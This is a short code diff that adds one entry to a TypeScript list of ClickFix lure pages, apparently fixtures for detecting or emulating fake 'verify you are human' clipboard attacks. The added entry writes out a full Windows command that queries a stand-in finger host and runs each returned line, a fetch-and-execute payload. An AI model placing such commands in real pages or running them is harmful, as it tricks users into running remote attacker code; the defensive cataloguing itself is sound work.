@@ -169,6 +169,15 @@ export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
     frame: 'top',
     command: FINGER,
   },
+  // Each line the finger server sends run by a for loop, no cmd before it (Unit 42, 2026-05).
+  {
+    id: 'turnstile-finger-loop',
+    lure: 'turnstile',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: `start "" /min for /f "skip=8 delims=" %h in ('finger a1b2c3@finger.check-human.example') do call %h`,
+  },
   {
     id: 'turnstile-rundll',
     lure: 'turnstile',
